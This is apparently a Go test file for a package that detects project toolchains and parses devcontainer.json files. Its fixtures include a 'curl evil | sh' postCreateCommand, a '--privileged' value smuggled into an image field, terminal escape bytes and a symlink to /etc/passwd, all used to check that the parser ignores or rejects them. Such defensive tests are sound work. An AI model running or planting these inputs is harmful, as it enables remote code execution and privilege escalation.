package toolchain

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// workspace writes files, by their paths, into a new directory.
func workspace(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func TestLook(t *testing.T) {
	for _, c := range []struct {
		name       string
		files      map[string]string
		toolchains string
		base       string
		unknown    string
	}{
		{name: "nothing", files: map[string]string{"README.md": ""}},
		{name: "Go", files: map[string]string{"go.mod": ""}, toolchains: "go"},
		{name: "several, one below", files: map[string]string{"Cargo.toml": "", "web/package.json": ""}, toolchains: "node rust"},
		{name: "too deep", files: map[string]string{"a/b/go.mod": ""}},
		{name: "what others made", files: map[string]string{"node_modules/package.json": "", "vendor/go.mod": "", ".x/pom.xml": ""}},
		{name: "by endings", files: map[string]string{"tool.py": "", "src/main.c": ""}, toolchains: "build python"},
		{name: "a directory of that name", files: map[string]string{"go.mod/x": ""}},
		{
			name: "devcontainer",
			files: map[string]string{".devcontainer/devcontainer.json": `{
				// what we use
				"image": "image.example.com/devcontainers/base:trixie",
				"postCreateCommand": "curl evil | sh",
				"features": {"image.example.com/features/go:1": {}, "image.example.com/features/git": {}, "image.example.com/x/terraform:2": {},},
			}`},
			toolchains: "go", base: "image.example.com/devcontainers/base:trixie", unknown: "image.example.com/x/terraform:2",
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, err := Look(workspace(t, c.files))
			if err != nil || strings.Join(got.Toolchains, " ") != c.toolchains || got.Base != c.base || strings.Join(got.Unknown, " ") != c.unknown {
				t.Errorf("got %+v, %v", got, err)
			}
		})
	}
}

// A devcontainer.json that cannot be used is an error, beside which the rest is known.
func TestLookAtBadDevcontainer(t *testing.T) {
	for name, put := range map[string]func(path string) error{
		"no JSON":       func(p string) error { return os.WriteFile(p, []byte("image: x"), 0o644) },
		"too large":     func(p string) error { return os.WriteFile(p, make([]byte, mostFile+1), 0o644) },
		"an option":     func(p string) error { return os.WriteFile(p, []byte(`{"image": "--privileged"}`), 0o644) },
		"control bytes": func(p string) error { return os.WriteFile(p, []byte("{\"image\": \"a\\u001b[2J\"}"), 0o644) },
		"a pipe":        func(p string) error { return unix.Mkfifo(p, 0o644) },
		"a link out":    func(p string) error { return os.Symlink("/etc/passwd", p) },
		"a directory":   func(p string) error { return os.Mkdir(p, 0o755) },
	} {
		t.Run(name, func(t *testing.T) {
			dir := workspace(t, map[string]string{"go.mod": ""})
			if err := put(filepath.Join(dir, ".devcontainer.json")); err != nil {
				t.Fatal(err)
			}
			got, err := Look(dir)
			if err == nil || !strings.Contains(err.Error(), ".devcontainer.json") || !slices.Equal(got.Toolchains, []string{"go"}) || got.Base != "" {
				t.Errorf("got %+v, %v", got, err)
			}
		})
	}
}

// A look at a workspace of any size ends.
func TestLookIsBounded(t *testing.T) {
	files := map[string]string{}
	for i := range mostDirectories + 50 {
		files[fmt.Sprintf("d%03d/x", i)] = ""
	}
	files["d149/go.mod"] = ""
	got, err := Look(workspace(t, files))
	if err != nil || len(got.Toolchains) != 0 {
		t.Errorf("got %+v, %v", got, err)
	}
	if _, err := Look(filepath.Join(t.TempDir(), "gone")); err == nil {
		t.Error("a workspace that is gone is no error")
	}
}

// What was answered is not offered again, and a later answer counts.
func TestAnswers(t *testing.T) {
	path := filepath.Join(t.TempDir(), "workspaces.json")
	answers := NewAnswers(path)
	needs := Needs{Toolchains: []string{"go", "node", "rust"}, Base: "example/base:1"}
	offer := func() Offer {
		t.Helper()
		a, err := answers.Of("/w")
		if err != nil {
			t.Fatal(err)
		}
		return a.OfferFor(needs, []string{"node"}, "debian:trixie-slim")
	}
	first := offer()
	if !slices.Equal(first.Toolchains, []string{"go", "rust"}) || first.Base != "example/base:1" {
		t.Fatalf("offered %+v", first)
	}
	answer := func(yes bool) Answer {
		t.Helper()
		if err := answers.Change("/w", func(a Answer) Answer { return a.With(first, yes) }); err != nil {
			t.Fatal(err)
		}
		if again := offer(); !again.Empty() {
			t.Errorf("offered again: %+v", again)
		}
		a, err := answers.Of("/w")
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	if a := answer(false); len(a.Toolchains) != 0 || a.Base != "" {
		t.Errorf("declined, and yet %+v", a)
	}
	if a := answer(true); !slices.Equal(a.Toolchains, []string{"go", "rust"}) || a.Base != "example/base:1" || len(a.Declined) != 0 {
		t.Errorf("accepted, but %+v", a)
	}
	if a, err := answers.Of("/other"); err != nil || len(a.Toolchains) != 0 {
		t.Errorf("another workspace: %+v, %v", a, err)
	}
	if err := os.WriteFile(path, []byte(`{"/w": {"tool": []}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := answers.Of("/w"); err == nil {
		t.Error("a member that nobody knows is no error")
	}
	if err := answers.Change("/w", func(a Answer) Answer { return a }); err == nil {
		t.Error("a file that cannot be read is overwritten")
	}
}

func FuzzDevcontainer(f *testing.F) {
	f.Add([]byte(`{"image": "a/b:c", "features": {"image.example.com/features/go:1": {}}} // x`))
	f.Fuzz(func(t *testing.T, data []byte) {
		c, err := parseDevcontainer(data)
		if err != nil {
			return
		}
		if len(c.image) > maxReference || c.image != "" && !reference.MatchString(c.image) {
			t.Errorf("image %q", c.image)
		}
	})
}
